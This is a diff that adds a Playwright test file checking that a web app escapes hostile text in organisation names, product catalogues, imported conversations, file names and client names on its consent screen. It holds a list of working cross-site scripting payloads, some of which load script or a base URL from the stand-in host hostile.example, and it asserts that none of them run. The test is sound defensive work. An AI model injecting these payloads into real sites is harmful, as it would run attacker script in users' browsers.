@@ -1,0 +1,246 @@
+// Text of customers, shops and clients that wants to be markup or script stays text on every page that shows it.
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { type BrowserContext, expect, type Page, test } from "@playwright/test";
+import pg from "pg";
+import { freePort } from "@/lib/db/embedded-process";
+import { type Stack, startStack } from "@/scripts/stack";
+import { admin } from "./admin-command";
+import { Assistant } from "./assistant";
+import { answerConsent } from "./consent-driver";
+import { type Watch, watchBrowser } from "./watch-browser";
+
+test.describe.configure({ mode: "serial" });
+
+/** A host that must never be asked for anything. */
+const HOST = "hostile.example";
+const RUN = "window.__ran=1";
+/** Each would run, load something or break out where text is not escaped. */
+const PAYLOADS = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `"><svg onload=${RUN}><image href="https://${HOST}/i"></svg>`,
+  `</title></textarea></script><script src="https://${HOST}/s.js"></script>`,
+  `![pixel](https://${HOST}/p.png) <iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
+  `javascript:${RUN}//'"--></style><base href="https://${HOST}/">`,
+];
+/** All of them, for texts that are long enough. */
+const ALL = PAYLOADS.join(" ");
+const OWNER = { email: "owner@example.com", password: "a long enough password" };
+
+let stack: Stack;
+let database: pg.Client;
+let context: BrowserContext;
+let page: Page;
+let watch: Watch;
+let organisation: string;
+let project: string;
+const assistants: Assistant[] = [];
+
+test.beforeAll(async ({ browser }) => {
+  test.setTimeout(120_000);
+  stack = await startStack({ port: await freePort() });
+  database = new pg.Client({ connectionString: stack.databaseUrl });
+  await database.connect();
+  const folder = mkdtempSync(path.join(os.tmpdir(), "caramel-hostile-"));
+  try {
+    ({ id: organisation } = await admin<{ id: string }>(
+      stack,
+      ...["organisation", "create", "--name", PAYLOADS[1] as string, "--plan", "business"],
+      ...["--owner-email", OWNER.email, "--owner-password", OWNER.password],
+    ));
+    ({ id: project } = await admin<{ id: string }>(
+      stack,
+      ...["project", "create", "--organisation", organisation, "--name", PAYLOADS[0] as string],
+    ));
+    const history = path.join(folder, "<img src=x onerror=alert(1)>.jsonl");
+    writeFileSync(
+      history,
+      [...PAYLOADS.map(hostileConversation), `{"id": "<img src=x onerror=${RUN}>"}`].join("\n"),
+    );
+    await admin(stack, "import", "conversations", "--project", project, history);
+    const catalogue = path.join(folder, "products.csv");
+    writeFileSync(catalogue, hostileCatalogue());
+    await admin(stack, "import", "products", "--project", project, catalogue);
+    await admin(stack, "key", "create", "--organisation", organisation, "--name", PAYLOADS[1] as string);
+    await admin(stack, "chatbot", "create", "--project", project, "--name", PAYLOADS[0] as string);
+  } finally {
+    rmSync(folder, { recursive: true, force: true });
+  }
+  context = await browser.newContext({ baseURL: stack.baseUrl });
+  watch = await watchBrowser(context, stack.baseUrl);
+  page = await context.newPage();
+});
+
+test.afterAll(async () => {
+  for (const assistant of assistants) await assistant.stop();
+  await database?.end();
+  await stack?.stop();
+});
+
+function hostileConversation(payload: string, index: number): string {
+  return JSON.stringify({
+    id: `hostile ${index} ${payload}`,
+    platform: "web",
+    visitor: { id: payload, name: payload, email: `${payload}@example.com`, phone: payload.slice(0, 50) },
+    turns: [
+      { role: "user", content: `needle ${payload}` },
+      { role: "agent", content: ALL },
+    ],
+  });
+}
+
+/** Shopify's columns. Bodies may hold HTML there, which has to come out as text. */
+function hostileCatalogue(): string {
+  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
+  const rows = PAYLOADS.map((payload, index) =>
+    [
+      `hostile-${index}`,
+      `needle ${payload}`,
+      `<p>Soft</p>${ALL}`,
+      payload,
+      payload,
+      payload,
+      "true",
+      "Size",
+      payload,
+      payload,
+      "10",
+    ].map(cell),
+  );
+  const head = [
+    "Handle",
+    "Title",
+    "Body (HTML)",
+    "Vendor",
+    "Type",
+    "Tags",
+    "Published",
+    "Option1 Name",
+    "Option1 Value",
+    "Variant SKU",
+    "Variant Price",
+  ];
+  return `${[head, ...rows].map((row) => row.join(",")).join("\n")}\n`;
+}
+
+/** The page shows the text, and nothing of it has become an element, a script or a request. */
+async function expectHarmless(texts: string[]) {
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  for (const text of texts) {
+    await expect(page.locator("body"), text).toContainText(text);
+  }
+  const traces = await page.evaluate((host) => {
+    const made = [
+      ...document.querySelectorAll("iframe, base, img[onerror], svg[onload], [srcdoc], [onload], [onerror]"),
+    ];
+    const pointing = [...document.querySelectorAll("[src], [href]")].filter(
+      (element) =>
+        /javascript:/i.test(element.getAttribute("href") ?? "") ||
+        (element.getAttribute("src") ?? element.getAttribute("href") ?? "").includes(host),
+    );
+    return {
+      ran: "__ran" in window,
+      elements: [...made, ...pointing].map((element) => element.outerHTML.slice(0, 200)),
+    };
+  }, HOST);
+  expect(traces).toEqual({ ran: false, elements: [] });
+  expect(watch.foreign).toEqual([]);
+  expect(watch.problems).toEqual([]);
+}
+
+test("the sign-in page gives nothing back from its address", async () => {
+  await page.goto(
+    `/sign-in?error=${encodeURIComponent(ALL)}&callbackUrl=${encodeURIComponent(`https://${HOST}/`)}`,
+  );
+  await expectHarmless(["The sign-in did not work."]);
+  await page.getByLabel("E-mail").fill(OWNER.email);
+  await page.getByLabel("Password").fill(OWNER.password);
+  await page.getByRole("button", { name: "Sign in", exact: true }).click();
+  await page.waitForURL(`${stack.baseUrl}/p/${project}`);
+});
+
+test("overview, conversations and transcripts", async () => {
+  await expectHarmless([`needle ${PAYLOADS[0]}`, PAYLOADS[1] as string]);
+  await page.goto(`/p/${project}/conversations`);
+  await expectHarmless(PAYLOADS.map((payload) => `needle ${payload}`));
+  await page.goto(`/p/${project}/conversations?q=needle`);
+  await expect(page.getByRole("table", { name: "Conversations" }).locator("mark")).toHaveCount(
+    PAYLOADS.length,
+  );
+  await expectHarmless([]);
+  await page.goto(`/p/${project}/conversations?q=${encodeURIComponent(ALL.slice(0, 200))}`);
+  await expectHarmless([]);
+  const { rows } = await database.query("SELECT id FROM conversation WHERE project_id = $1 ORDER BY id", [
+    project,
+  ]);
+  expect(rows).toHaveLength(PAYLOADS.length);
+  for (const { id } of rows) {
+    await page.goto(`/p/${project}/conversations/${id}`);
+    await expectHarmless([ALL]);
+  }
+});
+
+test("products, with HTML in their descriptions", async () => {
+  await page.goto(`/p/${project}/products`);
+  await expectHarmless(PAYLOADS.map((payload) => `needle ${payload}`));
+  await page.goto(`/p/${project}/products?q=needle`);
+  await expectHarmless([`needle ${PAYLOADS[0]}`]);
+  const { rows } = await database.query("SELECT id, title FROM product WHERE project_id = $1", [project]);
+  expect(rows).toHaveLength(PAYLOADS.length);
+  for (const { id, title } of rows) {
+    await page.goto(`/p/${project}/products/${id}`);
+    await expectHarmless([title, "Soft"]);
+  }
+});
+
+test("imports, chatbots, keys, projects and members", async () => {
+  const { rows } = await database.query("SELECT id FROM import_run WHERE rejected > 0 AND project_id = $1", [
+    project,
+  ]);
+  expect(rows).toHaveLength(1);
+  await page.goto(`/p/${project}/import/${rows[0].id}`);
+  await expectHarmless([
+    "<img src=x onerror=alert(1)>.jsonl",
+    "turns is missing",
+    `<img src=x onerror=${RUN}>`,
+  ]);
+  await page.goto(`/p/${project}/import`);
+  await expectHarmless(["<img src=x onerror=alert(1)>.jsonl"]);
+  await page.goto(`/p/${project}/chatbots`);
+  await expectHarmless([PAYLOADS[0] as string]);
+  await page.goto(`/o/${organisation}/api-keys`);
+  await expectHarmless([PAYLOADS[1] as string]);
+  await page.goto(`/o/${organisation}/projects`);
+  await expectHarmless([PAYLOADS[0] as string, PAYLOADS[1] as string]);
+  await page.goto("/account");
+  await page.getByLabel("Name", { exact: true }).fill(PAYLOADS[1] as string);
+  await page.getByRole("button", { name: "Save name" }).click();
+  await expect(page.getByText("Name saved", { exact: true })).toBeVisible();
+  await page.goto(`/o/${organisation}/members`);
+  await expectHarmless([PAYLOADS[1] as string]);
+  await page.goto(`/o/${organisation}/settings`);
+  await expectHarmless([PAYLOADS[1] as string]);
+});
+
+test("a client's name on the consent screen, and its label in the list", async () => {
+  for (const payload of PAYLOADS.slice(0, 3)) {
+    const assistant = await Assistant.start(payload, `${stack.baseUrl}/mcp`);
+    assistants.push(assistant);
+    await page.goto(await assistant.ask());
+    await expect(page.getByRole("button", { name: "Allow", exact: true })).toBeVisible();
+    // Names are shortened; the beginning tells.
+    await expectHarmless([payload.slice(0, 30)]);
+    const label = payload.slice(0, 80);
+    await answerConsent(page, page.url(), { ...OWNER, choices: { label } });
+    await assistant.answer();
+    await page.goto(`/p/${project}/integrations/mcp`);
+    await expectHarmless([label]);
+    await page.getByRole("button", { name: `Revoke ${label}`, exact: true }).click();
+    await expect(page.getByRole("alertdialog")).toContainText(label);
+    await page.getByRole("alertdialog").getByRole("button", { name: "Revoke connection" }).click();
+    await expect(page.getByText("Connection revoked", { exact: true })).toBeVisible();
+    await expectHarmless([label]);
+  }
+});
